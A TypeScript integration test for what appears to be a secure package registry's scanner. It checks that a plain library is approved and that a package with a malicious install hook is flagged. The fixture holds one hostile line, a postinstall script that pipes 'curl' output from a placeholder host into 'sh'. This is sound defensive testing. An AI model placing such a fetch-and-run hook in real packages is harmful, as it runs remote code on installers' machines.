import { strict as assert } from 'node:assert';
import { after, before, describe, test } from 'node:test';
import type { PackageVerdictResponse, ScanSummary } from '@secure-registry/shared';
import { FakeUpstream } from '../test-support/fake-upstream.js';
import { makeGraph } from '../test-support/graph.js';
import { startTestServer } from '../test-support/harness.js';
import type { TestServer } from '../test-support/harness.js';

describe('the server with the real static analysis and rule set', () => {
  let upstream: FakeUpstream;
  let server: TestServer;

  before(async () => {
    upstream = await new FakeUpstream().start();
    server = await startTestServer({ upstream: upstream.url });
  });
  after(async () => {
    await server.dispose();
    await upstream.close();
  });

  test('a plain library is approved and a curl|sh postinstall is not; reports are stored', async () => {
    const plain = await upstream.add({
      name: 'plain-lib',
      version: '1.2.3',
      files: { 'index.js': 'module.exports = function add(a, b) { return a + b; };\n' },
      manifest: { main: 'index.js', license: 'MIT' },
    });
    const dropper = await upstream.add({
      name: 'plain-dropper',
      version: '1.0.0',
      files: { 'index.js': 'module.exports = 1;\n' },
      manifest: { scripts: { postinstall: 'curl -s http://payload.invalid/x.sh | sh' } },
    });
    const created = await server.json<ScanSummary>('POST', '/api/v1/scans', {
      graph: makeGraph([
        { name: 'plain-lib', version: '1.2.3', integrity: plain.integrity },
        { name: 'plain-dropper', version: '1.0.0', integrity: dropper.integrity },
      ]),
    });
    const result = await server.waitForScan(created.body.id);
    const lib = result.packages.find((p) => p.name === 'plain-lib')!;
    const bad = result.packages.find((p) => p.name === 'plain-dropper')!;
    assert.equal(lib.state, 'approved', JSON.stringify(lib.findings));
    assert.notEqual(bad.state, 'approved');
    assert.ok(bad.findings.length > 0);
    assert.ok(bad.reason);

    const verdict = await server.json<PackageVerdictResponse>('GET', '/api/v1/packages/plain-dropper/1.0.0');
    assert.equal(verdict.body.verdict, bad.state);
    assert.ok(verdict.body.ruleSetVersion);
    assert.equal(typeof verdict.body.reports.static, 'object');
  });
});
